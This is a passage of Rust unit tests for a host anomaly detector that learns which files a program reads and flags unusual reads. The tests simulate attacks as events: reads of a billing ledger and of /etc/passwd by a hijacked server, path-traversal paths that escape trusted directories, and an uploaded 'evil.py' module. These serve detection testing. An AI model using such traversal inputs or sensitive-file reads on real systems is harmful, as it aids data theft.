    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let said = serde_json::to_string(&alerts[0]).unwrap();
    assert!(said.contains("python3 reads in /srv/billing") && said.contains("python3 reads /srv/billing/ledger.db"));
    // Past its start-up this profile judges no ordinary read: it learned none there (it would take a worker's
    // every late read for new). A new input then: quiet.
    c.t += STARTUP_NS + SEC;
    let late = c.ev(c.pid, "python3", EventKind::Open { path: "/srv/job/in/batch-4.csv".into(), flags: 0o2000000 });
    let none = model_alerts(&mut d, &[late]);
    assert!(none.is_empty(), "{none:#?}");
    // An older kestrel's profile: the directory view off, the same theft a new file only.
    let mut old = ps;
    old[0].read_dirs = false;
    old[0].late_reads = true;
    old[0].behaviours.retain(|b| !b.key.starts_with("python3 reads in "));
    old[0].reindex();
    let mut d = model_only(old, Stage::Detect);
    let mut e = Box_::new("e", 0);
    let mut run = worker(&mut e, &["/srv/billing/ledger.db"]);
    run.push(e.ev(e.pid, "python3", EventKind::Open { path: "/srv/job/other.txt".into(), flags: 0o2000000 }));
    let none = model_alerts(&mut d, &run);
    assert!(none.is_empty(), "{none:#?}");
}

/// A service importing a seldom-used feature's code long after its start-up — a module never read, in a package
/// never read in, below the library directory it imports from at start — reads its own code: no alert. Code it
/// wrote itself, code in a directory anyone may write in, and data read the same way are judged as before.
#[test]
fn a_late_import_of_the_programs_own_code_is_no_alert_and_code_it_wrote_is_judged() {
    // The service, importing its standard library's modules at its start (`os` among them).
    fn service(b: &mut Box_, late: &[&str]) -> Vec<Event> {
        let mut v = service_start(b);
        let app = b.pid;
        for path in ["/usr/lib/python3.11/os.py", "/dev/shm/app.lock"] {
            v.push(b.ev(app, "python3", EventKind::Open { path: path.into(), flags: 0o2000000 }));
        }
        v.push(b.ev(app, "python3", EventKind::Listen { fd: 3, backlog: 5 }));
        b.t += STARTUP_NS + SEC;
        for path in late {
            v.push(b.ev(app, "python3", EventKind::Open { path: (*path).into(), flags: 0o2000000 }));
        }
        v
    }
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let static_files = ["/srv/app/static/app.css", "/srv/app/static/logo.svg"];
    let ps = learn(Policy::default(), vec![service(&mut a, &static_files), service(&mut b, &static_files)]);
    let p = &ps[0];
    assert!(p.reads_code_below("python3", "/usr/lib/python3.11/xml/etree/ElementTree.py", 0));
    assert!(!p.reads_code_below("python3", "/usr/lib/python3.11/xml/etree/data.xml", 0), "not code");
    assert!(!p.reads_code_below("nginx", "/usr/lib/python3.11/xml/etree/ElementTree.py", 0), "another program");
    assert!(!p.reads_code_below("python3", "/usr/share/x.py", 0), "below no directory it reads in");
    // Where anyone may write, even where it reads (its lock file in /dev/shm), code is not its own.
    assert!(p.knows(View::File, "python3 reads in /dev/shm"));
    assert!(!p.reads_code_below("python3", "/dev/shm/x.so", 0) && !p.reads_code_below("python3", "/tmp/x.py", 0));
    assert!(!p.reads_code_below("python3", "/usr/lib/../../dev/shm/x.so", 0), "judged where it resolves");
    let p_lists = |dir: &str| is_code(dir, 0o2200000);
    let mut d = model_only(ps, Stage::Detect);
    let mut c = Box_::new("c", 0);
    let mut run = service(&mut c, &["/srv/app/static/app.css"]);
    let app = c.pid;
    let read = |c: &mut Box_, path: &str| c.ev(app, "python3", EventKind::Open { path: path.into(), flags: 0o2000000 });
    // The import system lists a package's directory before it reads the package.
    for package in ["/usr/lib/python3.11/xml", "/usr/lib/python3.11/xml/etree"] {
        run.push(c.ev(app, "python3", EventKind::Open { path: package.into(), flags: 0o2200000 }));
    }
    for path in [
        "/usr/lib/python3.11/statistics.py",
        "/usr/lib/python3.11/xml/etree/ElementTree.py",
        "/usr/lib/python3.11/lib-dynload/_decimal.cpython-311-x86_64-linux-gnu.so",
        "/usr/lib/python3.11/__pycache__/csv.cpython-311.pyc",
    ] {
        run.push(read(&mut c, path));
    }
    let quiet = model_alerts(&mut d, &run);
    assert!(quiet.is_empty(), "{quiet:#?}");
    // Data read the same way, or a directory listed outside an interpreter's library tree: alerts, as before.
    let data = read(&mut c, "/usr/lib/python3.11/secrets.txt");
    assert_eq!(model_alerts(&mut d, &[data]).len(), 1);
    assert!(!p_lists("/srv/app/data/backups") && p_lists("/usr/lib/node_modules/left-pad"));
    let listing = c.ev(app, "python3", EventKind::Open { path: "/srv/app/keys".into(), flags: 0o2200000 });
    assert_eq!(model_alerts(&mut d, &[listing]).len(), 1);
    // Code it wrote (a module uploaded, then imported by a payload): judged as any read.
    let written = c.ev(app, "python3", EventKind::Open { path: "/srv/app/plugins/evil.py".into(), flags: 0o1101 });
    let _ = model_alerts(&mut d, &[written]);
    let evil = read(&mut c, "/srv/app/plugins/evil.py");
    let alerts = model_alerts(&mut d, &[evil]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(serde_json::to_string(&alerts[0]).unwrap().contains("python3 reads in /srv/app/plugins"));
    // Code below a directory it does not read in, where anyone may write: an alert.
    let tmp = read(&mut c, "/var/tmp/x/mod.py");
    assert_eq!(model_alerts(&mut d, &[tmp]).len(), 1);
}

/// A reader's time zone, asked for long after start-up in regions never asked for before, is read from the system's
/// reference data: no alert. A path through that tree that resolves elsewhere is judged as any read.
#[test]
fn a_late_read_of_the_systems_reference_data_is_no_alert() {
    assert!(is_reference_data("/usr/share/zoneinfo/Europe/Berlin") && is_reference_data("/usr/share/zoneinfo"));
    assert!(
        is_reference_data("/usr/lib/x86_64-linux-gnu/gconv/IBM850.so") && is_reference_data("/etc/ssl/certs/a.pem")
    );
    assert!(!is_reference_data("/usr/share/zoneinfo-x/a") && !is_reference_data("/usr/lib/x86_64-linux-gnu/libc.so.6"));
    let through = "/usr/share/zoneinfo/../../../srv/billing/ledger.db";
    assert!(!is_reference_data(through));
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let static_files = ["/srv/app/static/app.css", "/srv/app/static/logo.svg"];
    let ps = learn(Policy::default(), vec![service_reads(&mut a, &static_files), service_reads(&mut b, &static_files)]);
    let mut d = model_only(ps, Stage::Detect);
    let mut c = Box_::new("c", 0);
    let mut run = service_reads(&mut c, &["/srv/app/static/app.css"]);
    let app = c.pid;
    for path in ["/usr/share/zoneinfo/America/Argentina/Buenos_Aires", "/usr/share/zoneinfo/Asia/Tokyo"] {
        run.push(c.ev(app, "python3", EventKind::Open { path: path.into(), flags: 0o2000000 }));
    }
    let quiet = model_alerts(&mut d, &run);
    assert!(quiet.is_empty(), "{quiet:#?}");
    let out = c.ev(app, "python3", EventKind::Open { path: through.into(), flags: 0o2000000 });
    let alerts = model_alerts(&mut d, &[out]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn the_loaders_cache_read_late_teaches_no_directory_and_is_no_alert() {
    // The dynamic loader reads /etc/ld.so.cache at every exec and every dlopen of a library named without a path:
    // a database's server process loading an extension or its JIT long after its start. That read is the loader's,
    // not the program's work: it must not teach that the program reads in /etc (a hijacked server process reading
    // /etc/passwd would pass), and read late by a program that never did, it is no alert.
    let server = |b: &mut Box_, late: &[&str]| {
        let mut v = vec![b.exec("runc", 1, &["/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/pg"])];
        let pg = b.pid;
        let read = |b: &mut Box_, path: &str| b.ev(pg, "postgres", EventKind::Open { path: path.into(), flags: 0 });
        v.push(read(b, "/var/lib/pg/postgresql.conf"));
        v.push(b.ev(pg, "postgres", EventKind::Listen { fd: 3, backlog: 5 }));
        b.t += STARTUP_NS + SEC;
        for path in ["/var/lib/pg/base/5/1255", "/var/lib/pg/base/5/2601"].iter().chain(late) {
            v.push(read(b, path));
        }
        v
    };
    let cache = "/etc/ld.so.cache";
    // Learned with the loader's late reads: /etc is still a place its work never reads.
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let ps = learn(Policy::default(), vec![server(&mut a, &[cache]), server(&mut b, &[cache])]);
    assert!(ps[0].read_dirs && ps[0].late_reads, "{}", ps[0].baseline());
    let mut d = model_only(ps, Stage::Detect);
    let mut c = Box_::new("c", 0);
    let quiet = model_alerts(&mut d, &server(&mut c, &[cache]));
    assert!(quiet.is_empty(), "{quiet:#?}");
    let passwd = c.ev(c.pid, "postgres", EventKind::Open { path: "/etc/passwd".into(), flags: 0 });
    let alerts = model_alerts(&mut d, &[passwd]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    // Learned without it: the loader's first late read is no alert.
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let ps = learn(Policy::default(), vec![server(&mut a, &[]), server(&mut b, &[])]);
    let mut d = model_only(ps, Stage::Detect);
    let mut c = Box_::new("c", 0);
    let quiet = model_alerts(&mut d, &server(&mut c, &[cache]));
    assert!(quiet.is_empty(), "{quiet:#?}");
}

#[test]
fn modes_are_named_as_their_json_names_them() {
    for m in [Mode::Learn, Mode::Monitor, Mode::Protect] {
        assert_eq!(serde_json::to_value(m).unwrap(), m.as_str());
    }
    let p = Profile::new("web:1", Policy::default());
    assert!(p.baseline().starts_with("profile web:1 v1 (learn): "), "{}", p.baseline());
}
